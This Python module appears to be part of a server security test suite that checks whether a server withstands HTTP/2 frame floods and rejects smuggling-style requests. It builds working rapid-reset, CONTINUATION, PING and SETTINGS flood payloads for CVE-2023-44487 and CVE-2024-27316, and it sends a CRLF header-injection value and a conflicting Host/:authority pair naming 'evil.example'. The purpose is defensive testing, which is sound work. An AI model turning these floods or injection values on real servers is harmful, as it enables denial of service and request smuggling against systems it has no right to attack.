"""HTTP/2: floods of cheap frames (CVE-2023-44487, CVE-2024-27316 and their like), and two names of one host.

Asked of a server that offers it in plain text; granian runs with HTTP/1.1 only, so there it must not be spoken at all.
"""

import asyncio
import contextlib
import struct
from collections.abc import Iterable
from typing import Final

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from attack.checks import Attack, Check, Checks
from attack.target import Target
from attack.wire import connect, talk

__all__ = ["ATTACK", "NOT_OFFERED"]

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS: Final = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
RESETS: Final = 20_000
CONTINUATIONS: Final = 4_000
PINGS: Final = 50_000
LIMIT_SECONDS: Final = 15.0
PIECE: Final = 65_536

Pairs = list[tuple[str, str]]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


async def attack(target: Target) -> Checks:
    """Flood the server, and ask for a host under two names."""
    own = (":authority", target.authority)
    asked = await asyncio.gather(
        _ask(target, ":authority of another host", [(":authority", "evil.example")], refused=True),
        _ask(target, ":authority and another Host", [own, ("host", "evil.example")], refused=True),
        _ask(target, "Transfer-Encoding in HTTP/2", [own, ("transfer-encoding", "chunked")], refused=True),
        _ask(target, "a line end in a value", [own, ("x", "a\r\nb: c")], refused=True),
        _ask(target, "a good request", [own], refused=False),
    )
    return [
        *asked,
        await _flood(target, "rapid reset: 20,000 streams", _resets(target)),
        await _flood(target, "CONTINUATION without end", _continuations()),
        await _flood(target, "50,000 PINGs", frame(6, 0, 0, bytes(8)) * PINGS),
        await _flood(target, "50,000 SETTINGS", SETTINGS * PINGS),
    ]


async def not_offered(target: Target) -> Checks:
    """See that the server does not speak HTTP/2 where it is meant not to."""
    seen = await talk(target.port, PREFACE + SETTINGS, seconds=4.0)
    spoken = len(seen.raw) >= 9 and not seen.raw.startswith(b"HTTP/1.")
    return [
        Check(
            name="HTTP/2 is not spoken",
            expected="refused, or closed",
            observed=f"{seen}, {seen.raw[:24]!r}",
            held=not spoken and all(status >= 400 for status in seen.statuses),
        )
    ]


def _connection() -> h2.connection.H2Connection:
    # What a hostile client sends is not to be mended by the library.
    return h2.connection.H2Connection(
        h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
        )
    )


def _headers(target: Target, more: Pairs) -> Pairs:
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":path", target.page),
        *more,
        *((name.lower(), value) for name, value in target.headers.items()),
    ]


def _resets(target: Target) -> bytes:
    """Streams that are opened and reset at once."""
    connection = _connection()
    block = connection.encoder.encode(_headers(target, [(":authority", target.authority)]))
    # The block is the same in each: what it refers to in the table was put there by the first.
    again = connection.encoder.encode(_headers(target, [(":authority", target.authority)]))
    pieces: list[bytes] = []
    for number in range(RESETS):
        stream = 1 + 2 * number
        pieces += (frame(1, 5, stream, again if number else block), frame(3, 0, stream, struct.pack(">I", 8)))
    return b"".join(pieces)


def _continuations() -> bytes:
    """A head that never ends: literal fields that are not put in the table."""
    field = b"\x00\x01a\x7f\x81\x1f" + b"b" * 286
    return frame(1, 0, 1, field) + b"".join(frame(9, 0, 1, field * 50) for _ in range(CONTINUATIONS))


async def _flood(target: Target, name: str, data: bytes) -> Check:
    """Send `data` after the greeting. The server must close, or take it all in time, and still answer."""
    clock = asyncio.get_running_loop().time
    began = clock()
    ended = "it was taken"
    try:
        async with asyncio.timeout(LIMIT_SECONDS), connect(target.port) as (reader, writer):
            drain = asyncio.create_task(_drain(reader))
            writer.write(PREFACE + SETTINGS)
            for start in range(0, len(data), PIECE):
                writer.write(data[start : start + PIECE])
                await writer.drain()
                if drain.done():
                    break
            ended = "closed" if await asyncio.wait_for(drain, 2.0) else ended
    except TimeoutError:
        ended = "it was taken" if clock() - began < LIMIT_SECONDS else "it was still being taken"
    except OSError:
        ended = "closed"
    took = clock() - began
    good = await _ask(target, "", [(":authority", target.authority)], refused=False)
    return Check(
        name=name,
        expected="closed, or taken in time; and then a good request is answered",
        observed=f"{ended} after {took:.1f} s; then {good.observed}",
        held=good.held and ended != "it was still being taken",
    )


async def _drain(reader: asyncio.StreamReader) -> bool:
    with contextlib.suppress(OSError):
        while await reader.read(PIECE):
            pass
    return True


def _status_in(headers: Iterable[tuple[str | bytes, str | bytes]]) -> str:
    named = {_text(name): _text(value) for name, value in headers}
    return named.get(":status", "none")


def _text(value: str | bytes) -> str:
    return value if isinstance(value, str) else value.decode("latin-1")


async def _ask(target: Target, name: str, more: Pairs, *, refused: bool) -> Check:
    try:
        async with asyncio.timeout(LIMIT_SECONDS):
            status = await _status(target, more)
    except TimeoutError:
        status = "no answer"
    except OSError as error:
        status = f"closed ({type(error).__name__})"
    held = status == "200" if not refused else not status.startswith("2") and status != "no answer"
    return Check(name=name, expected="refused" if refused else "200", observed=status, held=held)


async def _status(target: Target, more: Pairs) -> str:
    connection = _connection()
    connection.initiate_connection()
    connection.send_headers(1, _headers(target, more), end_stream=True)
    async with connect(target.port) as (reader, writer):
        writer.write(connection.data_to_send())
        while data := await reader.read(PIECE):
            try:
                events = connection.receive_data(data)
            except h2.exceptions.ProtocolError as error:
                return f"no HTTP/2 ({type(error).__name__})"
            for event in events:
                if isinstance(event, h2.events.ResponseReceived):
                    return _status_in(event.headers or ())
                if isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                    return f"reset with code {event.error_code}"
            writer.write(connection.data_to_send())
    return "closed"


ATTACK: Final = Attack(
    name="http2", threat="floods of cheap frames, and two hosts in one request", run=attack, planted=False
)
NOT_OFFERED: Final = Attack(name="http2-off", threat="a protocol whose time limits are others", run=not_offered)
